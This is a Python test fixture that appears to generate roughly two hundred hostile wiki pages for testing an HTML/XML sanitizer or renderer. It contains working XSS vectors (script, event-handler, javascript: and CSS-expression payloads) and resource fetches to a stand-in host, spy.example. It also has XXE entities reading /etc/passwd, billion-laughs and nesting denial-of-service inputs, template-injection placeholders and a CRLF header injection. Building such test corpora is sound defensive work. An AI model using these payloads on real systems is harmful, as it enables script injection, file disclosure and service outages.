"""Pages: some two hundred that mean harm, by name: they run, fetch, hide, hang or break out, if they can.

Each says `{SEEN}` where a reader must still read something, or be warned; what runs sets `window.pwned`, what fetches goes to `{SPY}`.
"""

from dataclasses import dataclass, field
from typing import Any, Final

SEEN: Final = "Kestrel"
SPY: Final = "https://spy.example"
RUN: Final = "window.pwned=1"


@dataclass(frozen=True)
class Hostile:
    body: str
    storage: bool = False
    layout: dict[str, Any] = field(default_factory=dict)
    title: str = "Notes"


def scripts() -> dict[str, str]:
    tags = {
        "script": f"<script>{RUN}</script>",
        "script with a source": f"<script src={SPY}/x.js></script>",
        "script in upper case": f"<SCRIPT>{RUN}</SCRIPT>",
        "script that is not closed": f"<script>{RUN}",
        "script in a script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
        "script with a slash": f"<script/x>{RUN}</script>",
        "script after NUL": f"<scr\0ipt>{RUN}</scr\0ipt>",
        "svg script": f"<svg><script>{RUN}</script></svg>",
        "svg onload": f"<svg onload={RUN}>",
        "svg animate": f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
        "svg use": f"<svg><use href=data:image/svg+xml,<svg/onload={RUN}>></svg>",
        "svg foreign object": f"<svg><foreignObject><iframe onload={RUN}></foreignObject></svg>",
        "math with a link": f"<math><mi xlink:href=javascript:{RUN}>x</mi></math>",
        "math and style": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>",
        "iframe": f"<iframe src=javascript:{RUN}></iframe>",
        "iframe with a document": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
        "object": f"<object data=javascript:{RUN}></object>",
        "object with data": f"<object data=data:text/html,<script>{RUN}</script>></object>",
        "embed": f"<embed src=javascript:{RUN}>",
        "applet": f"<applet code=x archive={SPY}/x.jar></applet>",
        "base": f"<base href={SPY}/><a href=x>{SEEN}</a>",
        "meta refresh": f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
        "meta refresh away": f"<meta http-equiv=refresh content='0;url={SPY}'>",
        "link": f"<link rel=stylesheet href={SPY}/x.css>",
        "link to preload": f"<link rel=preload as=image href={SPY}/x.png>",
        "form": f"<form action={SPY}><input name=q autofocus onfocus={RUN}></form>",
        "button": f"<button formaction=javascript:{RUN}>x</button>",
        "isindex": f"<isindex type=image src=x onerror={RUN}>",
        "textarea": f"<textarea autofocus onfocus={RUN}></textarea>",
        "select": f"<select autofocus onfocus={RUN}><option>x</select>",
        "keygen": f"<keygen autofocus onfocus={RUN}>",
        "video": f"<video src={SPY}/v.mp4 onerror={RUN} autoplay></video>",
        "video poster": f"<video poster={SPY}/p.png></video>",
        "audio": f"<audio src={SPY}/a.mp3 onerror={RUN}></audio>",
        "source": f"<picture><source srcset={SPY}/s.png><img src=x></picture>",
        "details": f"<details open ontoggle={RUN}>x</details>",
        "marquee": f"<marquee onstart={RUN}>x</marquee>",
        "template": f"<template><script>{RUN}</script></template>",
        "noscript": f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
        "title": f"<title><img title='</title><img src=x onerror={RUN}>'></title>",
        "xmp": f"<xmp><p title='</xmp><img src=x onerror={RUN}>'></xmp>",
        "noembed": f"<noembed><p title='</noembed><img src=x onerror={RUN}>'></noembed>",
        "noframes": f"<noframes><p title='</noframes><img src=x onerror={RUN}>'></noframes>",
        "plaintext": f"<plaintext><img src=x onerror={RUN}>",
        "listing": f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
        "frameset": f"<frameset onload={RUN}><frame src={SPY}></frameset>",
        "body": f"<body onload={RUN} background={SPY}/b.png>",
        "html manifest": f"<html manifest={SPY}/m>",
        "dialog": f"<dialog open onclose={RUN}>x</dialog>",
        "custom element": f"<x-y onclick={RUN} tabindex=1 autofocus onfocus={RUN}>x</x-y>",
        "processing instruction": f"<?xml-stylesheet href='{SPY}/x.css'?>",
        "comment": f"<!--><img src=x onerror={RUN}>-->",
        "comment that ends oddly": f"<!-- --!><img src=x onerror={RUN}>-->",
        "conditional comment": f"<!--[if mso]><img src={SPY}/o.png><![endif]-->",
        "conditional comment downlevel": f"<![if mso]><img src={SPY}/o.png><![endif]>",
        "cdata": f"<![CDATA[<img src=x onerror={RUN}>]]>",
        "doctype": f"<!DOCTYPE html SYSTEM '{SPY}/x.dtd'>",
    }  # fmt: skip
    return {name: f"<p>{SEEN}</p>{page}" for name, page in tags.items()}


def handlers() -> dict[str, str]:
    events = "onclick onerror onload onmouseover onfocus onbegin onpointerenter onanimationstart ontransitionend onwheel".split()
    pages = {f"handler {event}": f'<p {event}="{RUN}">{SEEN}</p><img src=x {event}={RUN}>' for event in events}
    glued = (
        "<img/src=x/onerror={0}>",
        "<img src=x\x0conerror={0}>",
        '<img src="x"onerror={0}>',
        "<img src=`x`onerror={0}>",
        "<a\x0bonclick={0}>x</a>",
    )
    return pages | {f"handler glued {number}": f"<p>{SEEN}</p>{page.format(RUN)}" for number, page in enumerate(glued)}


def addresses() -> dict[str, str]:
    urls = (
        f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f" javascript:{RUN}", f"java\tscript:{RUN}", f"java\nscript:{RUN}", f"&#106;avascript:{RUN}",
        f"&#x6a;avascript&colon;{RUN}", f"javascript&#58;{RUN}", f"\x01javascript:{RUN}", f"vbscript:{RUN}", f"data:text/html,<script>{RUN}</script>",
        "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==", f"view-source:{SPY}", "file:///etc/passwd", "ms-word:ofe|u|" + SPY,
        "\\\\spy.example\\share", "//spy.example/x", "/\\spy.example/x", "http:\\\\spy.example", f"jar:{SPY}!/x", "blob:x", "intent://x#Intent;end",
        "feed:javascript:alert(1)", "livescript:x", "mhtml:x", "about:blank", "chrome://settings", "x-apple.systempreferences:",
    )  # fmt: skip
    pages = {f"address {number}": f'<a href="{url}">{SEEN}</a>' for number, url in enumerate(urls)}
    places = ("src", "srcset", "lowsrc", "dynsrc", "longdesc", "usemap", "data-image-src")
    pages |= {f"image {place}": f'<p>{SEEN}</p><img {place}="{SPY}/i.png 2x" width=9 height=9>' for place in places}
    pages |= {
        f"attribute {name}": f'<table {name}="{SPY}/b.png"><tr><td {name}="{SPY}/b.png">{SEEN}'
        for name in ("background", "ping", "poster", "cite")
    }
    pages["link that pings"] = f'<a href="https://example.com" ping="{SPY}" target="_blank" download>{SEEN}</a>'
    pages["map"] = f'<img usemap="#m" src=x><map name=m><area href="javascript:{RUN}" shape=default></map><p>{SEEN}</p>'
    return pages


def styles() -> dict[str, str]:
    declarations = (
        f"background:url({SPY}/a)", f"background-image:url('{SPY}/a')", f"background:image-set('{SPY}/a' 1x)", f"list-style:url({SPY}/a)", f"content:url({SPY}/a)",
        f"cursor:url({SPY}/a),auto", f"border-image:url({SPY}/a)", f"color:red;background:u\\72l({SPY}/a)", f"background:u/**/rl({SPY}/a)", f"behavior:url({SPY}/a)",
        f"-moz-binding:url({SPY}/a#x)", f"width:expression({RUN})", f"xss:expr/**/ession({RUN})", f"color:var(--x,url({SPY}/a))", f"background:&#117;rl({SPY}/a)",
        "position:fixed;top:0;left:0;width:9999px;height:9999px;background:#fff", "font-size:0", "display:none", "color:transparent", "text-indent:-9999px", "opacity:0",
        "color:red;}</style><script>window.pwned=1</script>", "color:red;quotes:'\\'", "color:'", "color:(((((((", "color:rgb(0 128 0)", "--x:y;color:var(--x)",
        f"@import '{SPY}/a'", f"src:local(x),url({SPY}/a)", "width:calc(100% * 1000000)", "margin-left:-9999px", "filter:url(#x)", "mask:url(#x)",
    )  # fmt: skip
    pages = {f"style {number}": f'<p style="{text}">{SEEN}</p>' for number, text in enumerate(declarations)}
    blocks = (
        f"@import '{SPY}/a'",
        f"*{{background:url({SPY}/a)}}",
        "p{display:none!important}",
        f"@font-face{{font-family:x;src:url({SPY}/f)}}",
        "</style ><p>x",
    )
    pages |= {f"style block {number}": f"<style>{text}</style><p>{SEEN}</p>" for number, text in enumerate(blocks)}
    poison = ("head", "p", "td", ".bp-table", "color")
    pages |= {f"style of {name}": f'<p style="{name}">{SEEN}</p><table class=confluenceTable><tr><td style="{name}">x' for name in poison}
    colours = (
        f"red;background:url({SPY}/a)",
        '#fff"><script>window.pwned=1</script>',
        f"var(--x, url({SPY}/a))",
        "expression(1)",
        "#12345",
    )
    pages |= {
        f"cell colour {number}": f"<table class=confluenceTable><tr><td data-highlight-colour='{text}'>{SEEN}"
        for number, text in enumerate(colours)
    }
    pages["colour ids"] = (
        f"<style>[data-colorid=x]{{color:#fff;background:url({SPY}/a)}} [data-colorid=y]{{color:url({SPY}/a)}}</style><p data-colorid=y>{SEEN}</p>"
    )
    return pages


def shapes() -> dict[str, str]:
    deep = {name: f"<{name}>" * 400 + SEEN + f"</{name}>" * 400 for name in ("div", "b", "ul", "blockquote", "span")}
    return {f"deep {name}": page for name, page in deep.items()} | {
        "adoption agency": f"<a><b><i><u>{SEEN}" + "<p><table><b>" * 100,
        "table in table": "<table><tr><td>" * 120 + SEEN,
        "many rows": f"<table class=confluenceTable>{'<tr><td>1<td>2' * 8000}</table><p>{SEEN}</p>",
        "many columns": f"<p>{SEEN}</p><table class=confluenceTable><tr>{'<td>x' * 500}</table>",
        "huge spans": f"<table class=confluenceTable><tr><td colspan=99999999 rowspan=65535>{SEEN}</table>",
        "many attributes": f"<p {' '.join(f'a{number}=x' for number in range(5000))}>{SEEN}</p>",
        "same attribute twice": f"<img src=/wiki/a.png src=x onerror={RUN} alt={SEEN}>",
        "one long word": f"<p>{SEEN} {'x' * 300_000}</p>",
        "one long text": f"<p>{SEEN} {'word ' * 200_000}</p>",
        "nothing closed": f"<div><p><b><table><tr><td><ul><li>{SEEN}",
        "everything closed": f"</div></p></table></body></html>{SEEN}",
        "controls": f"<p>\x00\x01\x02\x08\x0b\x0c\x0e\x1f\x7f\x80\x9f{SEEN}\ufffe\uffff</p>",
        "bidi": f"<p>\u202e\u2066{SEEN}\u2069\u202c</p>",
        "line separators": f"<p>{SEEN}\u2028\u2029\u0085</p>",
        "lone surrogate": f"<p>{SEEN}\ud83d</p>",
        "many entities": f"<p>{SEEN} {'&amp;' * 50_000}</p>",
        "unknown entities": f"<p>{SEEN} {'&nope;' * 5_000} &#0; &#xffffff; &#x80;</p>",
        "signs alone": f"<p>{SEEN} < > & \" ' <3 a<b c>d</p>",
        "many images": f"<p>{SEEN}</p>" + "<img src=/wiki/a.png>" * 3000,
        "many panels": "<div class=panel><div class=panelContent>" * 100 + SEEN,
        "our classes": f'<div class="bp-desk page bp-button bp-lozenge"><p class="bp-last">{SEEN}</p></div>',
        "ids of ours": f'<p id="page" name="page" data-macro-name="toc">{SEEN}</p><div class="toc-macro">x</div>',
        "no markup": SEEN,
        "placeholders": f"<p>{{page_title}} {{user_name}} {{{{ 7*7 }}}} {{% raw %}} ${{7*7}} {SEEN}</p>",
        "emoji of nobody": f'<p><img class=emoticon data-emoji-id="110000-d800" data-emoji-fallback="\\uD83D">{SEEN}</p>',
        "jira of nobody": f'<span class="jira-issue" data-jira-key="javascript:1">{SEEN}</span>',
    }  # fmt: skip


def storage_pages() -> dict[str, str]:
    laughs = "".join(f'<!ENTITY l{number} "{f"&l{number - 1};" * 10}">' for number in range(1, 10))
    return {
        "billion laughs": f'<!DOCTYPE x [<!ENTITY l0 "ha">{laughs}]><p>{SEEN} &l9;</p>',
        "quadratic blowup": f'<!DOCTYPE x [<!ENTITY a "{"x" * 10_000}">]><p>{SEEN} {"&a;" * 1000}</p>',
        "external entity": f'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><p>{SEEN} &a;</p>',
        "external entity by http": f'<!DOCTYPE x [<!ENTITY a SYSTEM "{SPY}/x">]><p>{SEEN} &a;</p>',
        "parameter entity": f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{SPY}/x"> %p;]><p>{SEEN}</p>',
        "cdata in cdata": f"<p>{SEEN}</p><ac:plain-text-body><![CDATA[<script>{RUN}</script>]]]]><![CDATA[>]]></ac:plain-text-body>",
        "script in code": f'<ac:structured-macro ac:name="code"><ac:plain-text-body><![CDATA[</pre><script>{RUN}</script>{SEEN}]]></ac:plain-text-body></ac:structured-macro>',
        "html macro": f'<p>{SEEN}</p><ac:structured-macro ac:name="html"><ac:plain-text-body><![CDATA[<script>{RUN}</script>]]></ac:plain-text-body></ac:structured-macro>',
        "macro name": f'<p>{SEEN}</p><ac:structured-macro ac:name="&lt;script&gt;{RUN}&lt;/script&gt;"/>',
        "macro parameter": f'<p>{SEEN}</p><ac:structured-macro ac:name="panel"><ac:parameter ac:name="bgColor">red;background:url({SPY}/a)</ac:parameter><ac:rich-text-body/></ac:structured-macro>',
        "widget": f'<p>{SEEN}</p><ac:structured-macro ac:name="widget"><ac:parameter ac:name="url"><ri:url ri:value="javascript:{RUN}"/></ac:parameter></ac:structured-macro>',
        "image by url": f'<p>{SEEN}</p><ac:image><ri:url ri:value="javascript:{RUN}"/></ac:image>',
        "deep macros": '<ac:structured-macro ac:name="panel"><ac:rich-text-body>' * 150 + SEEN + "</ac:rich-text-body></ac:structured-macro>" * 150,
        "not xml": f"<p>{SEEN}<br><b></p></i> &nope; < a & b",
        "namespaces": f'<x:y xmlns:x="{SPY}" x:onclick="{RUN}">{SEEN}</x:y>',
        "instruction": f'<?php echo 1 ?><p>{SEEN}</p><?xml-stylesheet href="{SPY}/x"?>',
    }  # fmt: skip


def layouts() -> dict[str, Hostile]:
    css = (
        "</style><script>window.pwned=1</script>", f"@import '{SPY}/x';", f"p{{background:url({SPY}/a)}}", "*{display:none!important}", ".bp-quiet{display:none!important}",
        f"p{{background:u\\72l({SPY}/a)}}", "p{content:'</style><img src=x onerror=window.pwned=1>'}", "@media print{p{color:red}} p{position:fixed;inset:0}",
        "p:hover{color:'</style><script>window.pwned=1</script>'}", "p{" + "color:red;" * 3000 + "}", "a{}" * 5000, "div p " * 200 + "{color:red}", "((((", "/*",
        f"@font-face{{font-family:x;src:url({SPY}/f)}}", f"@media (max-width:1px){{p{{background:url({SPY}/a)}}}}", ":is(" * 200 + ")" * 200 + "{color:red}",
    )  # fmt: skip
    pages = {f"custom css {number}": Hostile(f"<p>{SEEN}</p>", layout={"custom_css": text[:16_000]}) for number, text in enumerate(css)}
    said = {"header_text": f"</td><script>{RUN}</script>{{user_name}}", "button_label": f'"><img src=x onerror={RUN}>'}
    return pages | {
        "layout words": Hostile(f"<p>{SEEN}</p>", layout=said),
        "title": Hostile(f"<p>{SEEN}</p>", title=f"</title><script>{RUN}</script>\r\nBcc: x@y.example"),
        "dark theme": Hostile(f"<style>html[data-color-mode=dark] [data-colorid=a]{{color:#fff}}</style><p data-colorid=a>{SEEN}</p>", layout={"dark_theme": True}),
    }  # fmt: skip


def hostile_pages() -> dict[str, Hostile]:
    pages = scripts() | handlers() | addresses() | styles() | shapes()
    found = {name: Hostile(body) for name, body in pages.items()}
    return found | {f"storage: {name}": Hostile(body, storage=True) for name, body in storage_pages().items()} | layouts()


PAGES: Final = hostile_pages()
